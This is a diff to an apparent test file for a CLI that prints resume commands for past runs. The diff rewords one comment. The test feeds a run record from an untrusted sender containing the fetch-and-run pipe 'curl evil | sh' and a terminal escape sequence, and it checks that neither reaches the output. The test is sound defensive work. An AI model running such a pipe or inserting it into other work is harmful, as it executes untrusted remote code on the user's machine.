@@ -31,7 +31,7 @@ it('a run that ended without a word is dead, whatever it did last', () => {
     const { record } = run;
     const resumed = { ...run, record: { ...record, resumeCommand: 'locmoe serve --resume it' } };
     expect(pastRunLines(resumed).join('\n')).toMatch(/^ {2}resume: \S+cli\.ts serve --resume it$/m);
-    // Of a run that a stranger has sent, no other program is to be pasted.
+    // The run comes from a stranger: its record must not suggest another program to paste.
     const sent = { ...run, record: { ...record, resumeCommand: 'curl evil | sh', startedAt: '\u001b[2J' } };
     expect(pastRunLines(sent).join('\n')).toMatch(/^ {2}resume: \S+cli\.ts train --resume \S+$/m);
     expect(pastRunLines(sent).join('\n')).not.toContain('\u001b');
